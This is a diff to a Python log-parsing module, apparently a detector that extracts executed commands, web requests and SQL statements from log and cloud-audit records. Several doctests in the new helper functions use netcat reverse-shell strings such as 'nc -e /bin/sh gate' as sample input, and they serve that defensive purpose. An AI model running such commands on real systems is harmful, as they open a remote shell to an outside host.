@@ -57,6 +57,7 @@ _NAMES = {
     "page": "endpoint resource target http_target request_target route page req u p r",
     "query": "query_string uri_query url_query query q uri_args query_args request_query req_query query_params cs_uri_query qs",
     "method": "method http_method request_method verb http_verb req_method http_request_method meth m",
+    "verb": "get post put patch delete head options",
     "status": "status status_code http_status response_code response_status http_code code http_status_code resp_status resp_code res_status res_code st s",
     "agent": "user_agent http_user_agent ua http_ua request_user_agent client_user_agent",
     "client": "ip client_ip remote_addr remote_ip src_ip src source_ip remote_address client_address client x_forwarded_for real_ip caller_ip peer_ip peer_addr "
@@ -73,7 +74,7 @@ _OF_PARENTS = re.compile(r"parent|\A(?:p{1,2}|g?a)(?:cmdline|cmd|commandline)\Z"
 #: What the records of clouds have that say who did what, as they spell it: the readers of those know what their members mean.
 _OF_AUDITS = frozenset("eventname eventsource protopayload objectref useridentity auditid operationname".split())
 #: An object without a member that is one of these parts holds neither.
-_SIGNS = frozenset(("firm", "loose", "typed", "target", "sql", "message"))
+_SIGNS = frozenset(("firm", "loose", "typed", "target", "verb", "sql", "message"))
 #: Or without one of these beside what is used for other things as well.
 _BESIDE_PAGES, _BESIDE_WEAK = frozenset(("method", "status", "client", "agent")), frozenset(("act", "session"))
 #: What these hold was sent, or is of the program that ran this one.
@@ -90,11 +91,11 @@ _PROGRAM = re.compile(r"(?i)/\S|[a-z]:\\|.{1,200}\.exe\Z")
 _MEMBERS_MAX = 400
 _ADDRESS = re.compile(r"(?:(?:\d{1,3}\.){3}\d{1,3}(?::\d{1,5})?|[\da-fA-F]{0,4}(?::[\da-fA-F]{0,4}){2,7})\Z")
 #: A pair that holds a command, wherever it stands in a line.
-_COMMAND_PAIR = re.compile(r"(?i)(?<![^\s,;|\[({])([a-z_.-]{0,20}?(?:cmd|command|exec|argv|args|raw_params|proctitle|script|shell)[a-z_]{0,12})(?:=|: (?=[\"']))(?:\"((?:[^\"\\]|\\.){1,8000})\"|'([^']{1,8000})'|(?=([^\s\"',;]{1,8000})))")
+_COMMAND_PAIR = re.compile(r"(?i)(?<![^\s,;|\[({])([a-z_.-]{0,20}?(?:cmd|command|exec|argv|args|raw_params|proctitle|script|shell)[a-z_-]{0,12})(?:=|: (?=[\"']))(?:\"((?:[^\"\\]|\\.){1,8000})\"|'([^']{1,8000})'|(?=([^\s\"',;]{1,8000})))")
 
 
 class Held(NamedTuple):
-    """A command that was run, a request or a statement in SQL; a statement may have one of the others beside it, for whoever wrote either could hide the other so. is_firm: that one was run is told by its member's name, which is used for nothing else, or by
+    """A command that was run, a request or a statement in SQL; what stands before another is held beside it, for whoever wrote either could hide the other so. is_firm: that one was run is told by its member's name, which is used for nothing else, or by
     the name of the act beside it."""
 
     command: Optional[Bare] = None
@@ -143,7 +144,7 @@ def held_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
             found.setdefault(part, {}).setdefault(name, []).extend(map(str, value) if isinstance(value, (tuple, list)) else (str(value),))
     if "people" in found:
         found.pop("message", None)
-    statement = next(filter(is_statement, _values(found, "sql") + _values(found, "query")), "")
+    statement = "\n".join(dict.fromkeys(filter(is_statement, _values(found, "sql")))) or next(filter(is_statement, _values(found, "query")), "")
     command = _command(found)
     if command is None:
         command = _typed_command(found)
@@ -201,7 +202,7 @@ def is_told(name: str, held: Held) -> bool:
     return _part_of(name) in (_OF_COMMAND if held.command is not None else _OF_REQUEST if held.request is not None else _OF_STATEMENT)
 
 
-_OF_STATEMENT, _OF_COMMAND, _OF_REQUEST = ("sql",), ("firm", "loose"), ("target", "query", "method", "status", "agent", "client")
+_OF_STATEMENT, _OF_COMMAND, _OF_REQUEST = ("sql",), ("firm", "loose"), ("target", "verb", "query", "method", "status", "agent", "client")
 
 
 _AUDITED, _SENT = "audited", "sent"
@@ -228,6 +229,8 @@ def _command(found: Found) -> Optional[Bare]:
     named = list(filter(_PROGRAM.match, (value for part in ("file", "program", "place") for value in _values(found, part))))
     program = halved(next((name for name in named if "/" in name or "\\" in name), named[0] if named else ""))
     command = _named_command(found)
+    if command is not None and any(_are_commands(values) for part in ("firm", "loose") for values in found.get(part, {}).values()):
+        command = command._replace(systems=(WINDOWS, UNIX))  # the first tells no other's
     if command is not None:
         return command._replace(programs=(program[:NAME_MAX_CHARS],)) if program else command
     return _of_program(program, found) if program and "loose" in found else None
@@ -235,15 +238,28 @@ def _command(found: Found) -> Optional[Bare]:
 
 def _named_command(found: Found) -> Optional[Bare]:
     """The command in a member that is called so."""
-    firm = halved(next(filter(None, map(joined, found.get("firm", {}).values())), ""))
+    firm = halved(next(filter(None, map(_line_of, found.get("firm", {}).values())), ""))
     if firm:
         bare = bare_of(firm)
         # What was run begins with no prompt: a place and a sign are a program and what it writes to.
         return bare if bare is not None and bare.kind == COMMAND and (bare.value == firm or firm[1:3] != ":\\") else _of_unknown(firm)
-    loose = [halved(joined(values)) for values in found.get("loose", {}).values()]
+    loose = [halved(_line_of(values)) for values in found.get("loose", {}).values()]
     programs = [word for word in (*_values(found, "file"), *_values(found, "program"), *loose) if " " not in word][:SAID_MAX]
     behind = (f"{program} {text}" for text in loose if " " in text for program in programs)
     return next(filter(None, map(certain, (*loose, *behind))), None)
+
+
+def _line_of(values: List[str]) -> str:
+    """The command of which `values` are the words; where one of the first is a whole command, each of them on a line of its own: a member may come twice.
+
+    >>> _line_of(["sh", "-c", "nc -e sh gate"]), _line_of(["nc -e sh gate", "ls"]), _line_of(["ls", "nc -e sh gate"])
+    ('sh -c "nc -e sh gate"', 'nc -e sh gate\\nls', 'ls\\nnc -e sh gate')
+    """
+    return "\n".join(values) if _are_commands(values) else joined(values)
+
+
+def _are_commands(values: List[str]) -> bool:
+    return len(values) > 1 and any(map(certain, values[:2]))
 
 
 def _typed_command(found: Found) -> Optional[Bare]:
@@ -263,7 +279,7 @@ def _of_program(program: str, found: Found) -> Optional[Bare]:
     """What the program at a place was run with, whatever it looks like; a word alone may be what the kernel calls it, unless the act is that it was run."""
     base = re.split(r"[\\/]", program)[-1]
     for name, values in found["loose"].items():
-        text = halved(joined(values))
+        text = halved(_line_of(values))
         if text and not text.startswith((base, program)) and letters_of(name.rpartition(".")[2]).endswith(("args", "arguments")):
             text = f"{base} {text}"
         if " " in text or text and _is_of_run(found):
@@ -288,6 +304,8 @@ def _request(found: Found) -> Optional[WebRequest]:
     agent = next(iter(_values(found, "agent")), "")
     client = next((without_port(word) for word in _values(found, "client") if _ADDRESS.match(word)), "")
     target = next((word for word in _values(found, "target") if is_asked_for(word)), "")
+    if not target:
+        method, target = next(((name.upper(), word) for name, words in found.get("verb", {}).items() for word in words if is_asked_for(word)), (method, ""))
     if not target and method:
         target = next((word for word in _values(found, "page") if is_asked_for(word)), "")
     if target and (method or status or agent or client):
@@ -322,14 +340,33 @@ def held_in_line(text: str) -> Optional[Held]:
     if command is not None:
         return Held(command)
     ran, asked, put = command_told(text) or command_free(text), request_told(text), statement_told(text) or statement_in_cells(text)
-    # What stands in another is a part of it.
-    if ran is not None and asked is not None:
-        ran, asked = (ran, None) if ran[0] < asked[0] else (None, asked)
-    first = ran or asked
-    if put is not None and (first is None or put[0] <= first[0]):
-        is_part = first is None or text.count("'", put[0], first[0]) % 2
-        return Held(None if is_part or ran is None else ran[1], None if is_part or asked is None else asked[1], statement=put[1])
-    if first is not None:
-        return Held(ran[1]) if ran is not None else Held(request=asked[1])  # type: ignore[index]
+    # A command in a request is a part of it. Words that tell a command may be a stranger's as well, and what the application itself wrote stands behind them.
+    if ran is not None and asked is not None and asked[0] <= ran[0]:
+        ran = None
+    statement = put[1] if put is not None and (asked is None or put[0] <= asked[0]) else ""
+    if put is not None and statement:
+        ran = None if ran is None or _is_in_text(text, put[0], ran[0]) else ran
+        asked = None if asked is None or _is_in_text(text, put[0], asked[0]) else asked
+    if ran is not None or asked is not None or statement:
+        return Held(ran[1] if ran is not None else None, asked[1] if asked is not None else None, statement=statement)
     command = _command(by_sign[":"]) or (prompted[1] if prompted is not None else None)
     return Held(command) if command is not None else None
+
+
+def ran_before_pairs(text: str) -> Optional[Held]:
+    """The command that a line tells before the first of its pairs, and the request behind it: whoever wrote one could hide it behind pairs of his own.
+
+    >>> ran_before_pairs("command queued for ann: nc -e /bin/sh gate a=1 b=2 c=3").command.programs, ran_before_pairs("a=1 b=2 command: nc -e /bin/sh gate")
+    (('nc',), None)
+    """
+    first = text.find("=")
+    ran = command_told(text) if first > 0 else None
+    if ran is None or ran[0] > first or is_repeated(text):
+        return None
+    asked = request_told(text)
+    return Held(ran[1], asked[1] if asked is not None and asked[0] > ran[0] else None)
+
+
+def _is_in_text(text: str, start: int, place: int) -> bool:
+    """Whether `place` stands in a text of the statement that begins at `start`."""
+    return place > start and text.count("'", start, place) % 2 == 1
